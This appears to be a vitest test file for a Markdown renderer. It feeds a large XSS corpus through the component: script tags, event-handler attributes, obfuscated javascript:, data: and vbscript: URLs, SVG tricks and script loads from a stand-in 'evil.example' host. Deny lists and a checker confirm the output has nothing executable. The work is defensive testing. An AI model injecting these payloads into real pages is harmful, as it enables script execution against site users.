// The XSS corpus: member-written markdown (and raw HTML typed into it) that tries to run
// script, rendered through the real <Markdown> component. Whatever the input, the output
// must hold no executable element, no event-handler attribute and no script-capable URL.
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "@/components/markdown";

const render = (source: string) => renderToStaticMarkup(createElement(Markdown, { source }));

const FORBIDDEN_TAGS = new Set([
  "script",
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "applet",
  "svg",
  "math",
  "style",
  "link",
  "form",
  "button",
  "input",
  "textarea",
  "select",
  "base",
  "meta",
]);

/** Attributes a browser loads or navigates to. */
const URL_ATTRIBUTES = new Set([
  "href",
  "src",
  "srcset",
  "xlink:href",
  "action",
  "formaction",
  "data",
  "poster",
  "background",
  "cite",
  "longdesc",
]);

const NAMED_ENTITIES: Record<string, string> = {
  amp: "&",
  lt: "<",
  gt: ">",
  quot: '"',
  apos: "'",
  colon: ":",
  tab: "\t",
  newline: "\n",
  sol: "/",
  lpar: "(",
  rpar: ")",
  nbsp: "\u00a0",
};

/** Decodes character references (numeric, and the named ones that matter here). */
function decodeOnce(text: string): string {
  return text.replace(/&(#x[0-9a-f]+|#[0-9]+|[a-z]+);?/gi, (whole, ref: string) => {
    if (ref[0] === "#") {
      const code =
        ref[1] === "x" || ref[1] === "X" ? parseInt(ref.slice(2), 16) : Number(ref.slice(1));
      return Number.isFinite(code) && code <= 0x10ffff ? String.fromCodePoint(code) : whole;
    }
    return NAMED_ENTITIES[ref.toLowerCase()] ?? whole;
  });
}

/**
 * A URL as a browser would judge its scheme: entities decoded (repeatedly, to be strict),
 * percent-escapes of the scheme decoded, whitespace and control characters removed.
 */
function normaliseUrl(value: string): string {
  let url = value;
  for (let previous = ""; previous !== url;) [previous, url] = [url, decodeOnce(url)];
  try {
    url = decodeURIComponent(url);
  } catch {
    // Not percent-encoded text: judge it as it is.
  }
  return url
    .replace(/[\u0000-\u0020\u007f-\u00a0\u1680\u2000-\u200f\u2028\u2029\ufeff]/g, "")
    .toLowerCase();
}

interface Tag {
  name: string;
  attributes: { name: string; value: string }[];
}

/** Every real start tag in the output; escaped text (&lt;script&gt;) is not a tag. */
function tagsIn(html: string): Tag[] {
  const tags: Tag[] = [];
  for (const match of html.matchAll(/<([a-z][^\s/>]*)([^>]*)>/gi)) {
    const attributes = [];
    for (const attr of match[2]!.matchAll(
      /([^\s"'=/>]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g,
    )) {
      attributes.push({ name: attr[1]!.toLowerCase(), value: attr[2] ?? attr[3] ?? attr[4] ?? "" });
    }
    tags.push({ name: match[1]!.toLowerCase(), attributes });
  }
  return tags;
}

/** What in the rendered HTML could run script; empty when it is safe. */
function dangersIn(html: string): string[] {
  const found: string[] = [];
  if (/<script/i.test(html)) found.push("a <script tag");
  if (/<[a-z][^>]*\son[a-z]+\s*=/i.test(html)) found.push("an on…= attribute");
  for (const tag of tagsIn(html)) {
    if (FORBIDDEN_TAGS.has(tag.name)) found.push(`a <${tag.name}> element`);
    for (const { name, value } of tag.attributes) {
      if (name.startsWith("on")) found.push(`${name} on <${tag.name}>`);
      if (name === "style" || name === "srcdoc") found.push(`${name} on <${tag.name}>`);
      if (
        URL_ATTRIBUTES.has(name) &&
        /^(javascript|data|vbscript|livescript):/.test(normaliseUrl(value))
      )
        found.push(`${name}=${JSON.stringify(value)} on <${tag.name}>`);
    }
  }
  return found;
}

const SVG_ONLOAD_BASE64 = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"; // <svg onload=alert(1)>
const SCRIPT_BASE64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="; // <script>alert(1)</script>

const CORPUS: Record<string, string[]> = {
  "script tags": [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "Text <script type=module>import('https://evil.example')</script> more",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
  ],
  "event handlers": [
    "<img src=x onerror=alert(1)>",
    '<img src="https://ok.example/a.png" onload="alert(1)">',
    "<img src=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<a onmouseover="alert(1)">hover</a>',
    "<body onload=alert(1)>",
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<div onpointerenter="alert(1)">x</div>',
    "[x](https://ok.example 'a' onclick=alert(1))",
  ],
  "javascript: URLs": [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106&#0000097vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](<java\nscript:alert(1)>)",
    "[x](java\\\nscript:alert(1))",
    "[x](%6A%61%76%61script:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](\tjavascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    '[x](javascript:alert(1) "title")',
    "[x](javascript://%0aalert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
  ],
  "data: and vbscript: URLs": [
    `[x](data:text/html;base64,${SCRIPT_BASE64})`,
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](DATA:text/html,hi)",
    `![x](data:image/svg+xml;base64,${SVG_ONLOAD_BASE64})`,
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:text/html,hi)",
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "[x](vbscript:msgbox(1))",
    "[x](VbScRiPt:msgbox(1))",
    "[x](livescript:alert(1))",
  ],
  images: [
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](https://ok.example/a.png)',
    '![x](https://ok.example/a.png"onerror="alert(1))',
    '![x](https://ok.example/a.png "t\\" onerror=\\"alert(1)")',
    "[![x](javascript:alert(1))](javascript:alert(2))",
  ],
  autolinks: [
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,hi>",
    "<vbscript:msgbox(1)>",
    "javascript:alert(1)",
    "www.ok.example/javascript:alert(1)",
    '<https://ok.example/"onmouseover="alert(1)>',
  ],
  "reference-style links": [
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[r]\n\n[r]: <javascript:alert(1)> "title"',
    "[r][]\n\n[r]: &#106;avascript:alert(1)",
    "![x][img]\n\n[img]: data:image/svg+xml;base64," + SVG_ONLOAD_BASE64,
    "[x][r]\n\n[r]: vbscript:msgbox(1)",
    "[x][r]\n\n[r]: data:text/html,hi",
    "Footnote[^1]\n\n[^1]: [x](javascript:alert(1))",
  ],
  SVG: [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  ],
  "embedding and page-level elements": [
    '<iframe src="https://evil.example"></iframe>',
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="javascript:alert(1)"></object>',
    "<object data=x.swf><param name=x value=y></object>",
    '<embed src="data:text/html,hi">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="position:fixed;inset:0">overlay</p>',
    '<base href="javascript:alert(1)//">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
  ],
  "broken and unclosed HTML": [
    "<img src=x onerror=alert(1)",
    '<a href="javascript:alert(1)"',
    "<<img src=x onerror=alert(1)>>",
    "<div><p>unclosed <b onclick=alert(1)>bold",
    "</p><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div\n<script>alert(1)</script>",
    '<img src="x\nonerror=alert(1)">',
    "<a href='javascript:alert(1)'>x",
    "<title><img src=x onerror=alert(1)></title>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  "markdown around HTML": [
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |\n| [x](javascript:alert(1)) |",
    "# [x](javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "**[x](javascript:alert(1))**",
    "~~<svg onload=alert(1)>~~",
  ],
};

const cases = Object.entries(CORPUS).flatMap(([group, sources]) =>
  sources.map((source) => [group, source] as const),
);

describe("the XSS corpus through <Markdown>", () => {
  it.each(cases)("%s: %j renders nothing executable", (_group, source) => {
    const html = render(source);
    expect(dangersIn(html)).toEqual([]);
  });

  it("still renders safe links and images, so the checks above look at real tags", () => {
    const html = render(`[ok](https://ok.example/a) ![pic](/files/${UPLOAD_ID})`);
    expect(tagsIn(html).map((t) => t.name)).toEqual(expect.arrayContaining(["a", "img"]));
    expect(dangersIn(html)).toEqual([]);
  });
});

const UPLOAD_ID = "cm4uploadabcdefghijklmno";

describe("images: only the app's own uploads are shown", () => {
  it("shows an uploaded picture, at a stored width too, and links an uploaded file", () => {
    const html = render(
      `![chart](/files/${UPLOAD_ID}) ![small](/files/${UPLOAD_ID}?w=800) [report.pdf](/files/${UPLOAD_ID})`,
    );
    expect(html).toContain(`<img src="/files/${UPLOAD_ID}" alt="chart"`);
    expect(html).toContain(`<img src="/files/${UPLOAD_ID}?w=800" alt="small"`);
    expect(html).toContain(
      `<a href="/files/${UPLOAD_ID}" rel="nofollow noopener noreferrer">report.pdf</a>`,
    );
  });

  it.each([
    ["![pic](https://tracker.example/p.png)", "https://tracker.example/p.png", "pic"],
    ['<img src="https://tracker.example/p.png">', null, null],
    [
      "![](http://tracker.example/p.png)",
      "http://tracker.example/p.png",
      "http://tracker.example/p.png",
    ],
  ])("turns the outside picture %j into a link, never an <img>", (source, href, text) => {
    const html = render(source);
    expect(tagsIn(html).map((t) => t.name)).not.toContain("img");
    if (href)
      expect(html).toContain(`<a href="${href}" rel="nofollow noopener noreferrer">${text}</a>`);
  });

  it.each([
    "![x](/files/../admin)",
    `![x](/files/${UPLOAD_ID}?w=800&next=/admin)`,
    `![x](//evil.example/files/${UPLOAD_ID})`,
    "![x](/api/uploads)",
    `![x](/files/${UPLOAD_ID.toUpperCase()})`,
    "![x](data:image/png;base64,iVBORw0KGgo=)",
  ])("shows no picture for %j", (source) => {
    const html = render(source);
    expect(tagsIn(html).filter((t) => t.name === "img")).toEqual([]);
    expect(dangersIn(html)).toEqual([]);
  });
});

describe("the corpus checker", () => {
  it.each([
    ["<script>", "<p><script>alert(1)</script></p>"],
    ["handler", '<img src="https://ok.example/a.png" onerror="x">'],
    ["entity-encoded scheme", '<a href="&amp;#106;avascript:alert(1)">x</a>'],
    ["hidden whitespace", '<a href="java&#x09;script:x">x</a>'],
    ["data image", '<img src="DATA:image/svg+xml,x">'],
    ["vbscript", "<a href=vbscript:x>x</a>"],
    ["iframe", '<iframe src="https://ok.example"></iframe>'],
    ["style", '<p style="color:red">x</p>'],
  ])("flags %s", (_what, html) => {
    expect(dangersIn(html)).not.toEqual([]);
  });

  it("passes escaped text and ordinary links", () => {
    expect(dangersIn("<p>&lt;script&gt; onerror=alert(1) javascript:x</p>")).toEqual([]);
    expect(dangersIn('<a href="https://ok.example/?q=data:x" rel="nofollow">x</a>')).toEqual([]);
  });
});
